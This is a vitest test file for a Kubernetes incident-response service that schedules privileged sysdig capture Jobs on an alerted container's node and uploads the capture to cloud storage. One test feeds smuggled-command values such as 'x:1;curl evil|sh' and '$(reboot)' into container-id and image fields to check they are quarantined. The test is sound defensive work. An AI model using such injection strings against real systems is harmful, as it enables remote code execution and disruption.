// node-capturer against the simulated cluster (a real Kubernetes REST API, batch/v1 Jobs with a
// controller that finishes them) and the Firestore emulator, through app.request.

import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import type { V1Job } from "@kubernetes/client-node";
import { commandFromExample, ledgerForTest, runnerDepsForTest } from "@riposte/actioner-kit/testing";
import type { ActionOutcome, CommandOf } from "@riposte/contracts";
import { demoSeed, type SimCluster, startSim } from "@riposte/k8s-sim";
import { createLedger, createLedgerFirestore } from "@riposte/ledger";
import { createSilentLogger } from "@riposte/service-kit";
import { pushRequest } from "@riposte/service-kit/testing";
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from "vitest";
import { createApp, JOB_RESULTS_PATH } from "./index.js";

const BUCKET = "riposte-evidence-test";
let sim: SimCluster;
beforeAll(async () => {
  sim = await startSim({ seed: demoSeed(), jobs: { finishAfterMs: 200 } });
});
afterAll(() => sim.stop());
beforeEach(() => {
  sim.reset();
  sim.apply({ apiVersion: "v1", kind: "Namespace", metadata: { name: "riposte" } });
});

type CaptureNodeCommand = CommandOf<"capture-node">;

function setup(options: { dryRun?: boolean; cluster?: SimCluster; token?: string } = {}) {
  const projectId = `node-capturer-test-${randomBytes(4).toString("hex")}`;
  const ledger = createLedger({
    firestore: createLedgerFirestore({ projectId, emulatorHost: inject("firestoreEmulatorHost") }),
    timeoutMs: 30_000,
  });
  const runner = {
    ...runnerDepsForTest("node-capturer", (options.cluster ?? sim).url, {
      ...(options.dryRun ? { dryRun: true } : {}),
      ...(options.token ? { token: options.token } : {}),
      ledger: ledgerForTest(projectId),
    }),
    uses: { bucket: BUCKET, namespace: "riposte", jobResults: ledger },
  };
  const app = createApp({
    push: { service: "node-capturer", publisher: runner.publisher, logger: createSilentLogger() },
    runner,
  });
  const send = async (command: CaptureNodeCommand) => (await app.request("/", pushRequest(command))).status;
  const recordJobResults = async () => {
    const response = await app.request(JOB_RESULTS_PATH, { method: "POST" });
    return { status: response.status, body: (await response.json()) as Record<string, number> };
  };
  const outcomes = () =>
    runner.publisher.on("action-outcomes").map((entry) => entry.message as ActionOutcome);
  const quarantined = () => runner.publisher.on("quarantine").map((entry) => JSON.stringify(entry.message));
  return { send, outcomes, quarantined, recordJobResults, ledger, runner };
}

const jobs = () => sim.list({ kind: "Job", namespace: "riposte" }) as V1Job[];
const jobCreations = () => sim.requests.filter((r) => r.resource === "jobs" && r.verb === "create");
const batchCommand = (options: Parameters<typeof commandFromExample>[2] = {}) =>
  commandFromExample("capture-node", "sidekick-critical-drop-exec.json", options);
/** The example alert's pod (jobs/batch-worker-6f7d8-zx9k2), its node and its container. */
const POD = { namespace: "jobs", name: "batch-worker-6f7d8-zx9k2" };
const CONTAINER = "b7e2c9d1f0a3";

async function until<T>(read: () => T | Promise<T>, done: (value: T) => boolean, timeoutMs = 5_000) {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await read();
    if (done(value) || Date.now() > deadline) return value;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}

// The first test of a worker sets up its Firestore channel: seconds on a loaded machine.
describe("node-capturer", { timeout: 30_000 }, () => {
  it("creates one Job pinned to the alert's node: sysdig on the container, then the upload, argv only", async () => {
    const { send, outcomes } = setup();
    const command = batchCommand();
    const node = (sim.get({ kind: "Pod", ...POD }) as { spec: { nodeName: string } }).spec.nodeName;
    const name = `riposte-node-capture-${command.incident}`;
    const location = `gs://${BUCKET}/local/jobs/${POD.name}/${command.incident}/node-capture.scap`;
    expect(await send(command)).toBe(204);
    expect(outcomes()).toEqual([
      expect.objectContaining({
        action: "capture-node",
        result: "done",
        reason: `created Job riposte/${name} on node ${node}: a 30s sysdig capture of container ${CONTAINER}; its file lands in ${location}`,
        details: expect.objectContaining({ location, job: `riposte/${name}`, node }),
      }),
    ]);
    const [job, ...others] = jobs();
    expect(others).toEqual([]);
    expect(job?.metadata).toMatchObject({
      name,
      labels: { "app.kubernetes.io/managed-by": "riposte", "riposte.dev/incident": command.incident },
    });
    expect(job?.spec).toMatchObject({
      backoffLimit: 0,
      activeDeadlineSeconds: 330,
      ttlSecondsAfterFinished: 3600,
    });
    const pod = job?.spec?.template.spec;
    expect(pod).toMatchObject({
      nodeName: node,
      tolerations: [{ operator: "Exists" }],
      hostPID: true,
      serviceAccountName: "riposte-node-capture",
      restartPolicy: "Never",
      volumes: [{ name: "capture", emptyDir: { sizeLimit: "2Gi" } }],
    });
    const resources = {
      limits: { cpu: "500m", memory: "512Mi" },
      requests: { cpu: "500m", memory: "512Mi" },
    };
    expect(pod?.initContainers).toEqual([
      expect.objectContaining({
        name: "capture",
        image: "docker.io/sysdig/sysdig:0.38.1",
        command: [
          "sysdig",
          "--modern-bpf",
          "-M",
          "30",
          "-w",
          "/capture/node-capture.scap",
          `container.id=${CONTAINER}`,
        ],
        securityContext: { privileged: true },
        resources,
      }),
    ]);
    expect(pod?.containers).toEqual([
      expect.objectContaining({
        name: "upload",
        image: "gcr.io/google.com/cloudsdktool/google-cloud-cli:524.0.0-slim",
        command: [
          "gcloud",
          "storage",
          "cp",
          "--if-generation-match=0",
          "/capture/node-capture.scap",
          location,
        ],
        resources,
      }),
    ]);
    // No shell anywhere, and no args that an image's entrypoint could hand to one.
    expect(JSON.stringify(job)).not.toMatch(/"sh"|"bash"|"-c"|"args"/);
    expect(sim.list({ kind: "Event", namespace: "jobs" })).toEqual([
      expect.objectContaining({ reason: "RiposteCaptureNode" }),
    ]);
  });

  it("takes the playbook's image, duration and limits", async () => {
    const { send } = setup();
    const params = {
      image: "registry.example/sec/sysdig:0.39.0",
      durationSeconds: 120,
      cpu: "1",
      memory: "1Gi",
    } as CaptureNodeCommand["params"];
    expect(await send(batchCommand({ params }))).toBe(204);
    const [job] = jobs();
    expect(job?.spec?.activeDeadlineSeconds).toBe(420);
    expect(job?.spec?.template.spec?.initContainers?.[0]).toMatchObject({
      image: "registry.example/sec/sysdig:0.39.0",
      command: expect.arrayContaining(["-M", "120"]),
      resources: { limits: { cpu: "1", memory: "1Gi" } },
    });
  });

  it("the same command again: one Job, already-done with where the file lands", async () => {
    const { send, outcomes } = setup();
    const command = batchCommand();
    expect(await send(command)).toBe(204);
    expect(await send(command)).toBe(204);
    expect(jobs()).toHaveLength(1);
    expect(jobCreations()).toHaveLength(1);
    expect(outcomes().map((outcome) => outcome.result)).toEqual(["done", "already-done"]);
    expect(outcomes()[1]).toMatchObject({
      reason: expect.stringMatching(
        /^capture Job riposte\/riposte-node-capture-[0-9a-f]{32} already created/,
      ),
      details: expect.objectContaining({
        location: expect.stringMatching(/^gs:\/\/riposte-evidence-test\//),
      }),
    });
  });

  it("two deliveries at once: one Job (the loser's create is a 409), nothing failed", async () => {
    const { send, outcomes } = setup();
    const command = batchCommand();
    expect(await Promise.all([send(command), send(command)])).toEqual([204, 204]);
    expect(jobs()).toHaveLength(1);
    // Which of done/already-done each reports is the actioner kit's (action.ts alreadyDone).
    for (const outcome of outcomes()) expect(["done", "already-done"]).toContain(outcome.result);
  });

  it("an alert with no container id, or on the host: refused, no Job", async () => {
    const { send, outcomes } = setup();
    const command = batchCommand();
    const { containerId: _dropped, ...noContainer } = command.target;
    expect(await send({ ...command, target: noContainer })).toBe(204);
    expect(await send({ ...command, target: { ...command.target, containerId: "host" } })).toBe(204);
    expect(outcomes()).toEqual([
      expect.objectContaining({ result: "refused", reason: expect.stringMatching(/names no container/) }),
      expect.objectContaining({ result: "refused", reason: expect.stringMatching(/names no container/) }),
    ]);
    expect(jobCreations()).toEqual([]);
  });

  it("a hostile container id or image never reaches a Job: the command is quarantined", async () => {
    const { send, outcomes, quarantined } = setup();
    const command = batchCommand();
    const hostile: CaptureNodeCommand[] = [
      { ...command, target: { ...command.target, containerId: "b7e2c9d1f0a3 or proc.name=x" } },
      { ...command, target: { ...command.target, containerId: "$(reboot)" } },
      { ...command, params: { ...command.params, image: "sysdig:1 -c reboot" } },
      { ...command, params: { ...command.params, image: "evil/sysdig" } },
      { ...command, params: { ...command.params, uploaderImage: "x:1;curl evil|sh" } },
      { ...command, params: { ...command.params, cpu: "500m -privileged" } },
    ];
    for (const bad of hostile) expect(await send(bad)).toBe(204);
    expect(outcomes()).toEqual([]);
    expect(quarantined()).toHaveLength(hostile.length);
    expect(quarantined()[0]).toMatch(/containerId|container id/i);
    expect(quarantined()[3]).toMatch(/pin the image/);
    expect(jobCreations()).toEqual([]);
  });

  it("dry-run: says what Job it would create, creates nothing", async () => {
    const { send, outcomes } = setup({ dryRun: true });
    expect(await send(batchCommand())).toBe(204);
    expect(outcomes()).toEqual([
      expect.objectContaining({
        result: "dry-run",
        reason: expect.stringMatching(
          /^would create Job riposte\/riposte-node-capture-[0-9a-f]{32} on node \S+: a 30s sysdig capture of container b7e2c9d1f0a3 of pod jobs\/batch-worker-6f7d8-zx9k2 \(uid [0-9a-f-]{36}\), uploaded to gs:\/\/riposte-evidence-test\/local\/jobs\/batch-worker-6f7d8-zx9k2\/[0-9a-f]{32}\/node-capture\.scap$/,
        ),
      }),
    ]);
    expect(jobCreations()).toEqual([]);
    expect(jobs()).toEqual([]);
  });

  it("the pod already gone: stale, no Job", async () => {
    const { send, outcomes } = setup();
    sim.remove({ kind: "Pod", ...POD });
    expect(await send(batchCommand())).toBe(204);
    expect(outcomes()[0]?.result).toBe("stale");
    expect(jobCreations()).toEqual([]);
  });

  it("the scheduled call records complete and failed Jobs in their incidents; twice is harmless", async () => {
    const { send, recordJobResults, ledger } = setup();
    const good = batchCommand();
    const bad = commandFromExample("capture-node", "modern-terminal-shell.json");
    // Long enough to see them running first.
    sim.setJobOutcome({
      labelSelector: `riposte.dev/incident=${good.incident}`,
      outcome: "Complete",
      afterMs: 1_500,
    });
    sim.setJobOutcome({
      labelSelector: `riposte.dev/incident=${bad.incident}`,
      outcome: "Failed",
      afterMs: 1_500,
    });
    expect(await send(good)).toBe(204);
    expect(await send(bad)).toBe(204);
    // Before they finish: nothing recorded, both counted running.
    expect((await recordJobResults()).body).toMatchObject({ recorded: 0, running: 2 });
    expect((await ledger.readIncident(good.incident))?.actions["capture-node"]?.job).toBeUndefined();
    await until(
      () => jobs(),
      (all) => all.every((job) => (job.status?.conditions ?? []).some((c) => c.status === "True")),
    );
    for (let pass = 0; pass < 2; pass += 1) {
      expect(await recordJobResults()).toEqual({ status: 200, body: { recorded: 2, running: 0, failed: 0 } });
      const goodRecord = (await ledger.readIncident(good.incident))?.actions["capture-node"];
      const badRecord = (await ledger.readIncident(bad.incident))?.actions["capture-node"];
      expect(goodRecord?.outcome?.result).toBe("done");
      expect(goodRecord?.job).toMatchObject({
        name: `riposte/riposte-node-capture-${good.incident}`,
        state: "complete",
      });
      expect(badRecord?.job).toMatchObject({
        name: `riposte/riposte-node-capture-${bad.incident}`,
        state: "failed",
        reason: expect.any(String),
      });
      expect(goodRecord?.job?.at).toBeInstanceOf(Date);
    }
  });

  it("a Job whose incident label is no incident key is not recorded", async () => {
    const { recordJobResults } = setup();
    sim.apply({
      apiVersion: "batch/v1",
      kind: "Job",
      metadata: {
        name: "forged",
        namespace: "riposte",
        labels: {
          "app.kubernetes.io/managed-by": "riposte",
          "app.kubernetes.io/component": "node-capture",
          "riposte.dev/incident": "not-an-incident",
        },
      },
      spec: {
        template: {
          spec: {
            restartPolicy: "Never",
            containers: [{ name: "x", image: "busybox:1", command: ["true"] }],
          },
        },
      },
    });
    expect((await recordJobResults()).body).toEqual({ recorded: 0, running: 0, failed: 0 });
  });
});

describe("node-capturer with exactly its generated RBAC", { timeout: 30_000 }, () => {
  const TOKEN = "token-node-capturer";
  let guarded: SimCluster;
  beforeAll(async () => {
    guarded = await startSim({
      seed: demoSeed(),
      jobs: { finishAfterMs: 100 },
      // Its Role, bindings and ClusterRole (the sim's RBAC files hold only those; the namespace is seeded).
      rbac: readFileSync(new URL("../../../infra/k8s/rbac/node-capturer.yaml", import.meta.url), "utf8")
        .split("\n---\n")
        .filter((document) => document.startsWith("apiVersion: rbac.authorization.k8s.io/")),
      tokens: { [TOKEN]: "riposte-node-capturer@PROJECT_ID.iam.gserviceaccount.com" },
      anonymous: "deny",
    });
  });
  afterAll(() => guarded?.stop());
  beforeEach(() => {
    guarded.reset();
    guarded.apply({ apiVersion: "v1", kind: "Namespace", metadata: { name: "riposte" } });
  });

  const createJob = (namespace: string) =>
    fetch(`${guarded.url}/apis/batch/v1/namespaces/${namespace}/jobs`, {
      method: "POST",
      headers: { authorization: `Bearer ${TOKEN}`, "content-type": "application/json" },
      body: JSON.stringify({
        apiVersion: "batch/v1",
        kind: "Job",
        metadata: { name: "probe" },
        spec: {
          template: {
            spec: {
              restartPolicy: "Never",
              containers: [{ name: "x", image: "busybox:1", command: ["true"] }],
            },
          },
        },
      }),
    });

  it("creates its Job in riposte and records its result; a Job anywhere else is forbidden", async () => {
    const { send, outcomes, recordJobResults } = setup({ cluster: guarded, token: TOKEN });
    expect(await send(batchCommand())).toBe(204);
    expect(outcomes()).toEqual([expect.objectContaining({ result: "done" })]);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await recordJobResults()).toEqual({ status: 200, body: { recorded: 1, running: 0, failed: 0 } });
    for (const namespace of ["jobs", "shop", "kube-system"])
      expect((await createJob(namespace)).status).toBe(403);
  });
});
